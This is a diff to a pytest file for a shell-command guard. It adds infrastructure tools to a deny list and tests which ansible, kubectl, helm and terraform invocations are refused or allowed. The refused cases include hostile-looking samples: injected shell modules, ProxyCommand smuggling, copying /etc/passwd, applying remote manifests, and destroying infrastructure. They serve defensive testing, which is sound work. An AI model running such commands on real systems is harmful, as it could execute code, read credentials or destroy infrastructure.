@@ -32,7 +32,8 @@ PROGRAMS = [
     "make", "dpkg", "npm", "pnpm", "yarn", "pip", "pip3", "gem", "cargo", "apt-get", "apt", "apt-cache",
     "dnf", "apk", "composer", "go", "mvn", "gradle", "7z", "unrar", "cpio", "m4", "zstdcat", "dmesg",
     "logger", "identify", "magick", "modprobe", "insmod", "iptables", "ip6tables", "nft", "mount", "umount",
-    "swapon", "losetup", "ifconfig", "route", "ssh-keygen", "useradd", "passwd", "setcap",
+    "swapon", "losetup", "ifconfig", "route", "ssh-keygen", "useradd", "passwd", "setcap", "ansible",
+    "ansible-playbook", "ansible-pull", "ansible-galaxy", "kubectl", "helm", "terraform",
 ]  # fmt: skip
 
 
@@ -1002,6 +1003,98 @@ def test_administration_programs_that_change_the_machine_are_refused(command: st
 )
 def test_administration_programs_that_only_show_state_pass(command: str, search_path: str) -> None:
     assert not is_refused(command, bare(command), search_path)
+
+
+# --- 11. found while fixing: infrastructure tools run commands on the worker or change clusters ---
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ansible localhost -m shell -a 'touch /tmp/x/pwned'",
+        "ansible localhost -a 'touch /tmp/x/pwned'",
+        "ansible localhost -mshell -a'touch pwned'",
+        "ansible localhost --module-name=command --args=touch",
+        'ansible localhost -m ping -e \'x={{ lookup("pipe", "touch pwned") }}\'',
+        "ansible all -m ping -i /usr/bin/some-program",
+        "ansible all -m ping --vault-password-file=/usr/bin/some-program",
+        "ansible all -m ping --ssh-common-args=-oProxyCommand=touch",
+        "ansible all -m ping -M /tmp/x/modules",
+        "ansible all -m ping -t /tmp/x/tree",
+        "ansible-playbook /usr/share/doc/ansible/examples/site.yml",
+        "ansible-playbook ../other/site.yml",
+        "ansible-pull -U https://example.org/repo.git",
+        "ansible-galaxy install example.evil",
+        "kubectl exec pod -- sh -c 'touch /tmp/x/pwned'",
+        "kubectl run x --image=evil",
+        "kubectl cp pod:/etc/passwd /tmp/x/pwned",
+        "kubectl apply -f https://example.org/evil.yaml",
+        "kubectl delete pod x",
+        "kubectl evil-plugin",
+        "kubectl --kubeconfig=/tmp/x/config get pods",
+        "kubectl -s https://k8s.example.org get pods",
+        "kubectl get pods --token=x",
+        "kubectl get pods --profile=cpu --profile-output=/tmp/x/pwned",
+        "kubectl config set-context x",
+        "kubectl rollout restart deploy/x",
+        "kubectl cluster-info dump --output-directory=/tmp/x",
+        "helm install x ./chart",
+        "helm upgrade x ./chart",
+        "helm template x ./chart --post-renderer /usr/bin/touch",
+        "helm template x ./chart --output-dir /tmp/x",
+        "helm repo add x https://example.org/charts",
+        "helm plugin install https://example.org/plugin",
+        "terraform apply -auto-approve",
+        "terraform destroy -auto-approve",
+        "terraform -chdir=/tmp/x plan",
+        "terraform plan -out=/tmp/x/plan",
+        "terraform state rm x",
+        "terraform init",
+    ],
+)
+def test_infrastructure_tools_that_run_commands_or_change_state_are_refused(
+    command: str, search_path: str
+) -> None:
+    assert is_refused(command, bare(command), search_path)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ansible all -m ping",
+        "ansible all -m ping -i host1,host2,",
+        "ansible web -m setup -i hosts",
+        "ansible-playbook site.yml",
+        "ansible-playbook -t deploy --check site.yml",
+        "kubectl get pods",
+        "kubectl -n kube-system get pods -o wide",
+        "kubectl describe node x",
+        "kubectl logs -f deploy/x --tail 100",
+        "kubectl config view",
+        "kubectl rollout status deploy/x",
+        "kubectl auth can-i list pods",
+        "helm list -A",
+        "helm status x -n apps",
+        "helm repo list",
+        "helm template x ./chart",
+        "terraform plan",
+        "terraform plan -var 'region=eu'",
+        "terraform state list",
+        "terraform output -json",
+    ],
+)
+def test_infrastructure_tools_reading_state_pass(command: str, search_path: str) -> None:
+    assert not is_refused(command, bare(command), search_path)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["TF_CLI_ARGS", "TF_CLI_ARGS_plan", "PIP_INDEX_URL", "UV_INDEX_URL", "YARN_REGISTRY",
+     "ANSIBLE_CONFIG", "HELM_PLUGINS", "GOSUMDB", "GOINSECURE", "MAVEN_ARGS", "CLOUDSDK_CORE_PROJECT"],
+)  # fmt: skip
+def test_env_names_that_choose_an_index_or_arguments_are_never_passed(name: str) -> None:
+    with pytest.raises(ShellCommandNotAllowed):
+        check_environment({name: "x"}, [name.split("_")[0] + "_*"])
 
 
 # --- 10. the ordinary uses, run for real: they work and write nothing ----------------------------
